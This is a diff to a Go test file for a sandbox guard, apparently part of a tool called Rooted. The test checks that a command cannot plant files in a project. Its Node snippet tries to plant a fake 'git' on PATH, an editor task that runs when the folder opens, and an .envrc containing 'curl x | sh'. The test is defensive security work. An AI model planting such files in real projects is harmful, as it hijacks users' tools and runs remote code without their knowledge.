@@ -138,7 +138,7 @@ func TestPlantedAndPutBackBeforeExitNeverRunsOutside(t *testing.T) {
 
 // A folder on the command's PATH inside the project (a venv's bin, node_modules/.bin) is read-only: a program
 // planted there would run in place of the real one, for the user's tools and for Rooted's. An editor's task file
-// that did not exist cannot be created either: it is removed as soon as it appears.
+// that did not exist cannot be created either: it is removed as soon as it appears, and the command is ended.
 func TestPathFoldersAndEditorFilesInTheProject(t *testing.T) {
 	for _, mode := range guardModes(t) {
 		t.Run(mode, func(t *testing.T) {
@@ -148,14 +148,17 @@ func TestPathFoldersAndEditorFilesInTheProject(t *testing.T) {
 			os.MkdirAll(filepath.Join(root, ".vscode"), 0o755)
 			os.WriteFile(filepath.Join(root, ".vscode", "settings.json"), nil, 0o644)
 			t.Setenv("PATH", filepath.Join(root, "bin")+string(os.PathListSeparator)+os.Getenv("PATH"))
-			js := `const fs = require('fs'); const out = [];
+			js := `const fs = require('fs');
 				for (const [p, s] of [['bin/git', '#!/bin/sh\necho planted\n'], ['.vscode/settings.json', '{"git.path": "bin/git"}'], ['.vscode/tasks.json', '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'], ['.envrc', 'curl x | sh']]) {
-					try { fs.writeFileSync(p, s, {mode: 0o755}); out.push('planted ' + p) } catch (e) { out.push('refused ' + p + ' ' + e.code) }
+					try { fs.writeFileSync(p, s, {mode: 0o755}); console.log('planted ' + p) } catch (e) { console.log('refused ' + p + ' ' + e.code) }
 				}
-				console.log(out.join('\n'));`
-			out, e := call[protectedOut](t, reg, "exec_shell", `{"command": "node", "args": ["-e", `+jsonString(js)+`], "backup": false}`)
-			if e != nil || out.ExitCode != 0 {
+				setTimeout(() => {}, 5000);`
+			out, e := call[stoppedOut](t, reg, "exec_shell", `{"command": "node", "args": ["-e", `+jsonString(js)+`], "backup": false}`)
+			if e != nil {
 				t.Fatalf("%+v %v", out, e)
+			}
+			if out.StoppedBecause == "" || out.ExitCode == 0 {
+				t.Errorf("the command was not ended when it changed what is protected: %+v", out)
 			}
 			if mode == "pid namespace" {
 				for _, p := range []string{"bin/git", ".vscode/settings.json", ".vscode/tasks.json"} {
@@ -172,7 +175,7 @@ func TestPathFoldersAndEditorFilesInTheProject(t *testing.T) {
 			if b, _ := os.ReadFile(filepath.Join(root, ".vscode", "settings.json")); len(b) != 0 {
 				t.Errorf(".vscode/settings.json is now %q", b)
 			}
-			if !slices.Contains(out.GitRestored, "removed .envrc, which the command created") {
+			if mode == "pid namespace" && !slices.Contains(out.GitRestored, "removed .envrc, which the command created") || len(out.GitRestored) == 0 {
 				t.Errorf("not reported: %q", out.GitRestored)
 			}
 		})
